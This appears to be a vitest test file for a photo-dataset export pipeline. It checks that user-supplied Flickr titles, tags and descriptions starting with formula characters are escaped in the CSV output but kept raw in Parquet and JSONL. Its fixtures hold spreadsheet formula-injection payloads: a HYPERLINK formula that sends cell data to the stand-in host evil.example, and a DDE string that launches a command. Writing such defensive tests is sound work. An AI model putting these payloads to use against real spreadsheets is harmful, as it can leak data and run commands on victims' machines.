// Flickr users' text in the dataset: the description column is plain text in every format, and text a spreadsheet
// would run as a formula is neutralised in the CSV (OWASP) while Parquet and JSONL keep it raw.
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { db } from '../../../lib/db.ts';
import { runExport } from '../../../pipeline/export/export.ts';
import { useTestDatabase } from '../../helpers/db.ts';
import { duckQuery as query } from '../../helpers/duckdb.ts';

useTestDatabase();
let out: string;

const HOSTILE = [
  { id: '7001', title: '=HYPERLINK("http://evil.example/?"&A1,"x")', tags: 'lake', description: '' },
  { id: '7002', title: "+1+cmd|' /C calc'!A0", tags: '@sum(1)', description: '=1+1' },
  { id: '7003', title: '@SUM(1)', tags: '-2+3', description: '\tindented' },
  {
    id: '7004',
    title: 'Harbour at dawn',
    tags: 'sea boat',
    description: 'Shot from the <a href="https://x.example">pier</a>.<br />\nCold &amp; &quot;clear&quot;',
  },
] as const;

beforeAll(async () => {
  out = await mkdtemp(path.join(os.tmpdir(), 'quarry-export-text-'));
  await db().account.create({ data: { nsid: '70@N01', username: 'mallory' } });
  await db().photo.createMany({
    data: HOSTILE.map((p, i) => ({
      id: p.id,
      ownerNsid: '70@N01',
      secret: `s${p.id}`,
      server: '65535',
      farm: 66,
      title: p.title,
      tags: p.tags,
      description: p.description,
      license: 9,
      dateUpload: new Date(Date.UTC(2021, 0, 1 + i)),
      availability: 'available' as const,
      originalWidth: 2000,
      originalHeight: 1500,
    })),
  });
});
afterAll(async () => {
  await rm(out, { recursive: true, force: true });
});

describe('user text in the export', () => {
  it('neutralises formulas in photos.csv only, and carries the description as plain text everywhere', async () => {
    const dir = path.join(out, 'all');
    await runExport({ formats: ['parquet', 'jsonl', 'csv'], licenses: [9], outDir: dir });
    const plain = 'Shot from the pier.\nCold & "clear"';

    const parquet = await query(
      `SELECT photo_id, title, tags, description FROM read_parquet('${path.join(dir, 'photos.parquet')}') ORDER BY photo_id`,
    );
    expect(parquet).toEqual([
      { photo_id: '7001', title: HOSTILE[0].title, tags: 'lake', description: '' },
      { photo_id: '7002', title: HOSTILE[1].title, tags: '@sum(1)', description: '=1+1' },
      { photo_id: '7003', title: '@SUM(1)', tags: '-2+3', description: 'indented' },
      { photo_id: '7004', title: 'Harbour at dawn', tags: 'sea boat', description: plain },
    ]);
    const columns = await query(
      `SELECT name FROM parquet_schema('${path.join(dir, 'photos.parquet')}') WHERE name IN ('title', 'description', 'tags')`,
    );
    expect(columns.map((c) => c.name)).toEqual(['title', 'description', 'tags']);

    const jsonl = (await readFile(path.join(dir, 'photos.jsonl'), 'utf8'))
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(jsonl.map((j) => [j.title, j.tags, j.description])).toEqual(
      parquet.map((p) => [p.title, p.tags, p.description]),
    );

    // Read back as a spreadsheet would see each cell: every user-text cell that began with = + - @ starts with '.
    const csv = await query(
      `SELECT photo_id, title, tags, description FROM read_csv('${path.join(dir, 'photos.csv')}', header = true, all_varchar = true, allow_quoted_nulls = false) ORDER BY photo_id`,
    );
    expect(csv).toEqual([
      { photo_id: '7001', title: `'${HOSTILE[0].title}`, tags: 'lake', description: '' },
      { photo_id: '7002', title: `'${HOSTILE[1].title}`, tags: "'@sum(1)", description: "'=1+1" },
      { photo_id: '7003', title: "'@SUM(1)", tags: "'-2+3", description: 'indented' },
      { photo_id: '7004', title: 'Harbour at dawn', tags: 'sea boat', description: plain },
    ]);
    const text = await readFile(path.join(dir, 'photos.csv'), 'utf8');
    // DuckDB's FORCE_QUOTE also quotes those columns' names in the header.
    expect(text.split('\n')[0]).toBe(
      'url,url_highres,url_source,photo_id,owner,license,"title","description","tags",width,height,date_upload',
    );
    // Quoted, so no cell of the file itself starts with a formula character.
    expect(text).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",`);
    expect(text).not.toMatch(/(^|,)[=+@]/m);
  });
});
